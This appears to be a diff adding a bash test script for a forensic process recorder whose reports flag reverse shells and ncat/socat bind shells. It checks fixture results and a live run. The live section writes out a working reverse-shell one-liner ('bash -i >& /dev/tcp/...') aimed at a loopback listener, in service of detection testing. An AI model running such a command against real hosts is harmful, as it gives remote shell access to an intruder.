@@ -1,0 +1,103 @@
+# shells: the standard streams of every exec (record), and the shells on the
+# network report finds: on the shells fixture (fixtures/record-attacks shells:
+# a reverse shell, ncat and socat bind shells, each sent "id; uname -n", what
+# came back in fixtures/shells.truth), on benign logins, and live on loopback.
+source "$(dirname "$0")/lib.sh"
+source "$(dirname "$0")/report-lib.sh"
+
+load_fixtures shells logins-benign basic
+S=$SCRATCH/shells.db
+
+# query SQL ARGS...: `report ARGS --format csv` as table r, and SQL over it
+query() {
+	local sql=$1
+	shift
+	run_report "$@" --format csv
+	if [ "$rc" != 0 ] || [ ! -s "$SCRATCH/out" ]; then
+		echo "status $rc: $(head -c 300 "$SCRATCH/err")"
+		return
+	fi
+	sqlite3 -batch :memory: ".import --csv $SCRATCH/out r" "$sql"
+}
+
+# --- The fixture: what each shell was sent came back, and report finds them all ---------------
+check_eq "truth: every shell ran what it was sent (uid=0, then the host name)" 5 \
+	"$(grep -c 'uid=0(root) gid=0(root) groups=0(root) vm' fixtures/shells.truth)"
+reverse=$(q shells "SELECT pid FROM process WHERE how = 'exec' AND args = 'bash -i'")
+check_eq "summary: one network shell, the reverse shell, naming the attacker's end" \
+	"netshell|bash/$reverse|10.200.0.66:4444|1" \
+	"$(query "SELECT kind, subject, target, count FROM r WHERE section = 'detection' AND kind = 'netshell'" summary shells.db)"
+descendants="WITH RECURSIVE d(pid) AS (SELECT $reverse UNION SELECT p.pid FROM process p JOIN d ON p.ppid = d.pid AND p.how = 'fork')
+	SELECT count(*) FROM process WHERE how = 'exec' AND pid IN (SELECT pid FROM d) AND pid != $reverse"
+check_eq "summary: its parents and how many programs it then ran" \
+	"parents bash($(sql "$S" "SELECT ppid FROM process WHERE pid = $reverse AND how = 'exec'"))|ran $(sql "$S" "$descendants") programs" \
+	"$(query "SELECT substr(detail, 1, instr(detail, ' <') - 1), substr(detail, instr(detail, 'ran '), instr(substr(detail, instr(detail, 'ran ')), ':') - 1) FROM r WHERE kind = 'netshell'" summary shells.db)"
+check_eq "summary: the evidence command shows the shell's story" "report proc $reverse@" \
+	"$(query "SELECT substr(evidence, 1, length('report proc $reverse@')) FROM r WHERE kind = 'netshell'" summary shells.db)"
+check_eq "summary: two listeners starting a shell for each connection (ncat, socat)" \
+	"bindshell|ncat|4445|2|2 shells for 2 accepted connections
+bindshell|socat|4446|2|2 shells for 2 accepted connections" \
+	"$(query "SELECT kind, rtrim(subject, '/0123456789'), substr(target, 6, 4), count, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE kind = 'bindshell' ORDER BY 2" summary shells.db)"
+run_report summary shells.db
+check_match "summary: the shells come first among the detections" \
+	$'DETECTIONS\n  network shells +1 FOUND[^\n]*\n +bash/[0-9]+ -> 10\\.200\\.0\\.66:4444: parents' "$(cat "$SCRATCH/out")"
+check_eq "timeline: one exec marked as a shell on TCP, the reverse shell" \
+	"$reverse|netshell|tcp|tcp|tcp" \
+	"$(query "SELECT pid, shell, stdin, stdout, stderr FROM r WHERE shell = 'netshell'" timeline shells.db)"
+check_eq "timeline: the shells the listeners started, each marked" "bindshell|/bin/bash|unix|2
+bindshell|/bin/sh|pipe|2" \
+	"$(query "SELECT shell, args, stdin, count(*) FROM r WHERE shell = 'bindshell' GROUP BY 1, 2, 3 ORDER BY 2" timeline shells.db)"
+check_match "timeline: ... naming the listener" "/bin/sh  \\[shell for a connection ncat/[0-9]+ accepted\\]" \
+	"$(run_report timeline shells.db; cat "$SCRATCH/out")"
+check_match "timeline: its line names the connection" \
+	"bash -i  \\[shell on TCP 10\\.200\\.0\\.10:[0-9]+ < 10\\.200\\.0\\.66:4444\\]" \
+	"$(run_report timeline shells.db; cat "$SCRATCH/out")"
+check_eq "timeline --ppid: the commands the reverse shell was sent, run by it" "id
+uname -n" \
+	"$(query "SELECT args FROM r WHERE event = 'exec' AND args IN ('id', 'uname -n')" timeline --ppid "$reverse" shells.db)"
+check_eq "the bind shells' streams: pipes (ncat -e), a socketpair (socat EXEC)" \
+	"/bin/bash|unix|unix
+/bin/sh|pipe|pipe" \
+	"$(sql "$S" "SELECT DISTINCT args, stdin, stdout FROM process WHERE how = 'exec' AND args IN ('/bin/sh', '/bin/bash') ORDER BY 1")"
+
+# --- Benign: login shells, commands over ssh, captures without streams -------------------------
+check_eq "logins-benign: its login shells and ssh commands are no shell on the network" \
+	"netshell|0|none
+bindshell|0|none" \
+	"$(query "SELECT kind, count, detail FROM r WHERE section = 'detection' AND kind LIKE '%shell'" summary logins-benign.db)"
+check_eq "basic, recorded before the streams: not recorded, not none" \
+	"netshell||not recorded
+bindshell||not recorded" \
+	"$(query "SELECT kind, count, detail FROM r WHERE section = 'detection' AND kind LIKE '%shell'" summary basic.db)"
+
+# --- Live: what record reads of the streams ----------------------------------------------------
+needs_root "shells: record the streams of execs" || exit 0
+port=$((40000 + $$ % 20000))
+db=$SCRATCH/live.db
+start_record "$db" -e process,connect,accept || { fail "shells: record" "did not start"; exit 0; }
+python3 -c 'import socket, sys
+l = socket.socket()
+l.bind(("127.0.0.1", int(sys.argv[1])))
+l.listen(1)
+l.settimeout(20)
+s, _ = l.accept()
+s.sendall(b"exit\n")
+s.recv(4096)' "$port" &
+listener=$!
+for _ in $(seq 200); do # until it listens (python may be slow to start)
+	ss -Htln "sport = :$port" | grep -q . && break
+	sleep 0.05
+done
+bash -c "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2> /dev/null < /dev/null
+wait "$listener"
+echo casefile-streams | cat > "$SCRATCH/streams.out"
+stop_record
+check_eq "record: a reverse shell's streams are its TCP connection, to the listener" \
+	"tcp|tcp|tcp|127.0.0.1|$port|127.0.0.1" \
+	"$(sql "$db" "SELECT stdin, stdout, stderr, r.addr, tcp_rport, l.addr FROM process p JOIN address r ON r.id = tcp_raddr JOIN address l ON l.id = tcp_laddr WHERE how = 'exec' AND args = 'bash --norc --noprofile -i'")"
+check_eq "record: a pipeline's cat reads a pipe, writes a file" "pipe|file|" \
+	"$(sql "$db" "SELECT stdin, stdout, tcp_lport FROM process WHERE how = 'exec' AND args = 'cat' AND ppid = $$ LIMIT 1")"
+check_eq "record: forks have no streams" 0 \
+	"$(sql "$db" "SELECT count(*) FROM process WHERE how = 'fork' AND stdin IS NOT NULL")"
+check_eq "record: every exec has its three streams" 0 \
+	"$(sql "$db" "SELECT count(*) FROM process WHERE how = 'exec' AND (stdin IS NULL OR stdout IS NULL OR stderr IS NULL)")"
